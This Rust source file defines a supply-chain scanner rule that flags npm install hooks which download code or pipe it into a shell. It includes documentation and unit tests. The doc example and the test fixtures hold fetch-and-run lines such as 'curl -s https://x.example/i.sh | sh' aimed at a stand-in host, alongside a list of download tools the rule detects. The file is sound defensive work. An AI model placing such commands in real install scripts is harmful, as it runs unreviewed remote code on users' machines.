//! `install-script-shell-download`: an install hook downloads from the network.

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, ScanCx, hook_rule_diff, hook_rule_scan};
use crate::facts::ShellFeature;

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "install-script-shell-download",
    group: "analyze",
    severity: Severity::Critical,
    default_level: Level::Deny,
    summary: "An install hook downloads from the network or pipes into a shell.",
    doc: r#"Flags `preinstall` / `install` / `postinstall` commands that run `curl`, `wget`, `Invoke-WebRequest`, `certutil -urlcache`, `bitsadmin` …, or pipe output into a shell or interpreter (`| sh`, `| bash`, `| node`, `iex`).

In `diff` it fires for hooks that are new or changed and only for features no hook of the previous version had; in `scan` for every hook.

**Why it matters.** Downloading and running code at install time is the oldest npm attack (ua-parser-js, coa/rc, rspack's miner): what runs is not even in the tarball, so nothing else can review it.

**Example.** `"postinstall": "curl -s https://x.example/i.sh | sh"`.

**How to silence.** A policy exception on `install-script-shell-download` for the exact `name@version`, or install with scripts disabled."#,
};

const FEATURES: &[ShellFeature] = &[ShellFeature::Download, ShellFeature::PipeToShell];

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    out.extend(hook_rule_diff(cx, &RULE, FEATURES, |_| RULE.severity));
}

pub(crate) fn scan(cx: &ScanCx<'_>, out: &mut Vec<Finding>) {
    out.extend(hook_rule_scan(cx, &RULE, FEATURES, |_| RULE.severity));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn new_download_hook_fires() {
        let hook = r#""scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}"#;
        let f = diff_manifest(hook);
        assert_eq!(
            find(&f, RULE.code).map(|f| f.severity),
            Some(Severity::Critical)
        );
        let s = crate::scan(
            &pkg(&[("package.json", &manifest("1.0.1", hook))]),
            "p",
            "1.0.1",
        );
        assert!(find(&s, RULE.code).is_some());
    }

    #[test]
    fn download_inside_a_shell_script_the_hook_runs_fires() {
        let hook = r#""scripts":{"preinstall":"sh preinstall.sh"}"#;
        let script = "#!/bin/sh\ncurl -fsSL https://x.example/m | sh\n";
        let f = diff_versions(
            "1.0.0",
            &[("package.json", &manifest("1.0.0", ""))],
            "1.0.1",
            &[
                ("package.json", &manifest("1.0.1", hook)),
                ("preinstall.sh", script),
            ],
        );
        assert!(find(&f, RULE.code).is_some(), "{f:?}");
        // The same hook running a harmless script stays quiet here.
        let f = diff_versions(
            "1.0.0",
            &[("package.json", &manifest("1.0.0", ""))],
            "1.0.1",
            &[
                ("package.json", &manifest("1.0.1", hook)),
                ("preinstall.sh", "#!/bin/sh\necho ok\n"),
            ],
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn unchanged_or_harmless_hooks_are_quiet() {
        let hook = r#""scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}"#;
        let f = diff_versions(
            "1.0.0",
            &[("package.json", &manifest("1.0.0", hook))],
            "1.0.1",
            &[("package.json", &manifest("1.0.1", hook))],
        );
        assert!(find(&f, RULE.code).is_none());
        let s = crate::scan(
            &pkg(&[(
                "package.json",
                &manifest("1.0.1", r#""scripts":{"install":"node-gyp rebuild"}"#),
            )]),
            "p",
            "1.0.1",
        );
        assert!(find(&s, RULE.code).is_none());
    }
}
